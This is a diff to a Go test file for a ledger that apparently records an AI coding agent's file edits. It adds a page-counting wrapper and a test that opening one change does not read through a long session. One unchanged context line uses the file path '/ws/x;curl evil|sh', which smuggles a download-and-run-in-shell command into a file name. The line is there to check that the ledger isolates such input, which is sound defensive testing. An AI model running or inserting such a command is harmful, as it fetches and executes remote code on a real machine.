@@ -1,6 +1,7 @@
 package records
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
 	"math/rand/v2"
@@ -333,5 +334,45 @@ func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
 	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
 	if text := l.open(l.nodes(KindChange)["x;curl evil|sh"]); !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
 		t.Errorf("the change says %s", text)
+	}
+}
+
+// paged is a ledger that counts the pages of intents it is asked for.
+type paged struct {
+	engine.API
+	pages int
+}
+
+func (p *paged) Intents(ctx context.Context, r engine.IntentsRequest) (engine.IntentsResponse, error) {
+	p.pages++
+	return p.API.Intents(ctx, r)
+}
+
+// TestAChangeDoesNotReadThroughItsSession shows changes of a session with many pages of intents.
+func TestAChangeDoesNotReadThroughItsSession(t *testing.T) {
+	l := newLedger(t)
+	counting := &paged{API: l.Local}
+	l.Reader.API = counting
+	const calls = 1500
+	args := map[string]any{"old_string": "a", "new_string": "b"}
+	for i := range 30 {
+		args[fmt.Sprint("more", i)] = strings.Repeat("x", 200)
+	}
+	session := ""
+	for i := 0; i < calls; i += 100 {
+		var messages [][]byte
+		for n := i; n < i+100; n++ {
+			args["file_path"] = fmt.Sprintf("/ws/%d.go", n)
+			messages = append(messages, l.use("Edit", args, "ok", false)...)
+		}
+		session = l.say(session, messages...)
+	}
+	changes := l.nodes(KindChange)
+	for _, i := range []int{0, calls / 2, calls - 1} {
+		counting.pages = 0
+		text := l.open(changes[fmt.Sprintf("%d.go", i)])
+		if !strings.Contains(text, fmt.Sprintf("- `file_path` `/ws/%d.go`\n", i)) || counting.pages > 3 {
+			t.Errorf("change %d took %d pages and says %.300s", i, counting.pages, text)
+		}
 	}
 }
